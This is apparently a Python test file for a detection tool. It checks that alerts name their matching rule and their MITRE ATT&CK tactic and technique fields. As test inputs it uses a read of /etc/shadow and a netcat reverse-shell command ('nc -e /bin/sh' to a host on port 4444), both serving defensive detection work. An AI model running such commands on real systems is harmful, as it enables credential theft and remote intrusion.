"""Alerts name their rule and its ATT&CK context in ECS (rule.*, threat.*, message), from the
matching rules' metadata and tags: what Kibana's alert views show."""

from __future__ import annotations

from pathlib import Path

from hub_helpers import exec_event, open_event

from threatseer.hub.alerts import threat_fields
from threatseer.hub.config import ActionConfig
from threatseer.hub.rules.bundle import default_bundle_dir, load_bundle
from threatseer.hub.rules.model import Bundle, Manifest
from threatseer.hub.rules.ruleset import IndexedRuleSet
from threatseer.hub.rules.sigma import compile_sigma
from threatseer.hub.scoring import Pipeline

NC_RULE = (Path(__file__).resolve().parents[2] / "rules/default/sigma/linux/process_creation"
           / "proc_creation_lnx_netcat_reverse_shell.yml")


def scored(event: dict) -> dict:
    res = Pipeline(ActionConfig(), load_bundle(default_bundle_dir()), None).score(
        [event], "s1", 1, 0.0)
    (out,) = res.emitted
    return out


def test_a_query_rule_alert_names_the_top_rule_and_every_tag() -> None:
    ev = scored(open_event("/etc/shadow", exe="/usr/bin/cat", **{
        "process.name": "cat", "user.name": "root", "process.command_line": "cat /etc/shadow"}))
    assert ev["event.kind"] == "alert"
    # shadow_file_read (70) outweighs the static sensitive-file entry (50)
    assert ev["rule.name"] == ev["rule.id"] == "shadow_file_read"
    assert ev["rule.ruleset"] == "threatseer-default" and ev["rule.version"] == "1.0.0"
    assert ev["rule.category"] == "query"
    assert ev["message"] == "cat read /etc/shadow (user root, cmd cat /etc/shadow)"
    assert ev["threat.framework"] == "MITRE ATT&CK"
    assert ev["threat.tactic.id"] == ["TA0006"]
    assert ev["threat.tactic.name"] == ["Credential Access"]
    assert ev["threat.technique.id"] == ["T1003"]
    assert ev["threat.technique.subtechnique.id"] == ["T1003.008"]
    assert ev["threat.technique.subtechnique.reference"] == [
        "https://attack.mitre.org/techniques/T1003/008/"]


def test_a_sigma_alert_carries_the_rule_id_references_and_authors() -> None:
    rule = compile_sigma((NC_RULE).read_text(), "nc.yml")
    bundle = Bundle(Manifest(name="sigma-only", version="7"), ruleset=IndexedRuleSet([rule]))
    ev = exec_event("/usr/bin/nc", ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"], **{
        "process.command_line": "nc -e /bin/sh 10.0.0.1 4444 ", "process.name": "nc"})
    (ev,) = Pipeline(ActionConfig(alert_at=50), bundle, None).score([ev], "s1", 1, 0.0).emitted
    assert ev["event.kind"] == "alert"
    assert ev["rule.name"] == "Potential Netcat Reverse Shell Execution"
    assert ev["rule.uuid"] == ev["rule.id"] == "7f734ed0-4f47-46c0-837f-6ee62505abd9"
    assert ev["rule.ruleset"] == "sigma-only" and ev["rule.version"] == "7"
    assert ev["rule.category"] == "sigma"
    assert "https://www.revshells.com/" in ev["rule.reference"]
    assert ev["rule.author"] == ["@d4ns4n_", "Nasreddine Bencherchali (Nextron Systems)"]
    assert ev["message"].startswith("Detects execution of netcat")
    assert ev["threat.tactic.id"] == ["TA0002"] and ev["threat.technique.id"] == ["T1059"]


def test_threat_fields_from_tags() -> None:
    assert threat_fields(["attack.privilege_escalation", "attack.t1548.001", "attack.t1548",
                          "attack.g0016", "cve.2021-4034", "attack.TA0004"]) == {
        "threat.framework": "MITRE ATT&CK",
        "threat.tactic.id": ["TA0004"], "threat.tactic.name": ["Privilege Escalation"],
        "threat.tactic.reference": ["https://attack.mitre.org/tactics/TA0004/"],
        "threat.technique.id": ["T1548"],
        "threat.technique.reference": ["https://attack.mitre.org/techniques/T1548/"],
        "threat.technique.subtechnique.id": ["T1548.001"],
        "threat.technique.subtechnique.reference": [
            "https://attack.mitre.org/techniques/T1548/001/"],
    }
    assert threat_fields(["detection.threat-hunting"]) == {}


def test_alerts_with_the_same_tags_get_equal_threat_fields_of_their_own() -> None:
    """describe() remembers threat.* per tag sequence: each alert still owns its lists, and
    an unhashable tag (untrusted indicator data) neither breaks nor poisons the cache."""
    from threatseer.hub.alerts import describe

    tags = ["attack.execution", "attack.t1059.004"]
    alerts = [{"threatseer.indicators": [
        {"engine": "dynamic", "rule": "r", "score": 60, "tags": list(tags)}]} for _ in range(2)]
    for a in alerts:
        describe(a, lambda name: None, "bundle", "1")
    first, second = alerts
    assert first["threat.technique.id"] == second["threat.technique.id"] == ["T1059"]
    assert first["threat.technique.id"] is not second["threat.technique.id"]
    first["threat.technique.id"].append("T0000")  # one alert's edit stays its own
    third = {"threatseer.indicators": [{"engine": "dynamic", "rule": "r", "score": 60,
                                        "tags": [*tags, ["not", "hashable"]]}]}
    describe(third, lambda name: None, "bundle", "1")
    assert third["threat.technique.id"] == ["T1059"]
    fourth = {"threatseer.indicators": [
        {"engine": "dynamic", "rule": "r", "score": 60, "tags": list(tags)}]}
    describe(fourth, lambda name: None, "bundle", "1")
    assert fourth["threat.technique.id"] == ["T1059"]
